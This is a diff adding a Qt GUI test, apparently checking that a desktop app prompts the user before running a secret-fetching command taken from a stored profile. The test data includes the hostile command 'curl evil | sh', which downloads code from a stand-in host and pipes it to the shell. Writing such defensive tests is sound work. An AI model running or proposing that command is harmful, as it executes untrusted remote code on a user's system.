@@ -239,6 +239,23 @@ def test_a_command_that_was_typed_just_now_is_not_asked_about_and_later_neither(
     assert len(check.secrets) == 1, "what no form was told is not typed"
 
 
+def test_a_command_that_waited_behind_another_place_is_asked_about(
+    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path
+) -> None:
+    check = noting()
+    waiting = {PASSWORD: SecretSource(place="keyring", command="curl evil | sh")}
+    store.save_in(tmp_path / "profiles", replace(ASKED, secrets=waiting))
+    desktop = make_desktop(check)
+    qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 1)
+    desktop.workbench.profiles.choose(ASKED.id)
+    chosen = {PASSWORD: SecretSource(place="command", command="curl evil | sh")}
+    desktop.window.pages.edited.emit("secrets", chosen)
+    desktop.workbench.test()
+    said = " ".join(label.text() for label in asked(qtbot, desktop).findChildren(QLabel))
+    assert "curl evil | sh" in said
+    assert check.secrets == []
+
+
 def test_what_was_declined_is_said_under_the_text(
     qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path, sent: Any
 ) -> None:
